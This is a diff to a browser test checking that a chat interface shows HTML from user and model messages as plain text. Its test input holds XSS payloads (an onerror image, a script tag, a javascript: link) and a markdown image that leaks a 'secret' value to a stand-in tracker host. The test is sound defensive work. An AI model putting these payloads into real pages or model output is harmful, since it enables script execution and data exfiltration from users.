@@ -83,7 +83,8 @@ async def test_html_in_user_and_model_text_is_shown_as_text_and_never_runs(
     attack = (
         '<img src=x onerror="window.pwned=1;alert(1)"> '
         "<script>window.pwned=2;alert(2)</script> "
-        "![tracker](http://tracker.invalid/pixel.png?leak=secret) done"
+        "![tracker](http://tracker.invalid/pixel.png?leak=secret) "
+        "[click me](javascript:window.pwned=3) done"
     )
     await send(page, attack)
     await expect(log).to_contain_text("done", timeout=10_000)
@@ -92,6 +93,8 @@ async def test_html_in_user_and_model_text_is_shown_as_text_and_never_runs(
     await expect(log.get_by_text('<img src=x onerror="window.pwned=1;alert(1)">')).to_have_count(2)
     await expect(log.get_by_text("<script>window.pwned=2;alert(2)</script>")).to_have_count(2)
     await expect(log.locator("img, script, iframe")).to_have_count(0)
+    hrefs = await log.locator("a").evaluate_all("links => links.map(a => a.href)")
+    assert not [href for href in hrefs if href.lower().startswith("javascript:")], hrefs
     assert await page.evaluate("window.pwned") is None
     assert browsing.watch.dialogs == []
     assert browsing.watch.remote_requests == []
